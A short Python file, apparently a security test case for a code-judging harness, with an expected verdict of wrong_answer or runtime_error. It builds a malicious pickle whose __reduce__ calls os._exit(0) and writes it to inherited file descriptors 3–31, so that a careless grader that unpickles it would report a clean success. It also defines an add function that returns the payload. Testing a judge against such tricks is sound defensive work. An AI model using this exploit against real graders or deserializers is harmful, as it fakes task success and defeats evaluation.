# kind: assert
# verdict: wrong_answer runtime_error
# threat: a pickle that would end a careless reader with status 0
import os
import pickle
import struct


class Payload:
    def __reduce__(self):
        return os._exit, (0,)


data = pickle.dumps(Payload())
for fd in range(3, 32):
    try:
        os.write(fd, struct.pack("=I", len(data)) + data)
    except OSError:
        pass


def add(a, b):
    return Payload()
